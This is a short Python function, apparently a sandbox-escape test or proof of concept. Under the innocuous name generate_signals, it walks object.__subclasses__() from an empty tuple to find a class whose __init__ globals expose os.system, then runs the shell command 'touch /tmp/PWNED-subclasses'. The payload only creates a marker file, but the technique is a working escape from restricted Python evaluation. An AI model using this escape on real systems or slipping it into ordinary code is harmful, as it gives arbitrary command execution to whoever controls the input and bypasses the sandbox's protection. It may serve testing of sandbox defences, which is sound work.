# Walks from a tuple to every class of the process, and from one of them to os.
def generate_signals(data, parameters):
    for kind in ().__class__.__base__.__subclasses__():
        names = getattr(getattr(kind, "__init__", None), "__globals__", {})
        if "system" in names:
            names["system"]("touch /tmp/PWNED-subclasses")
    return []
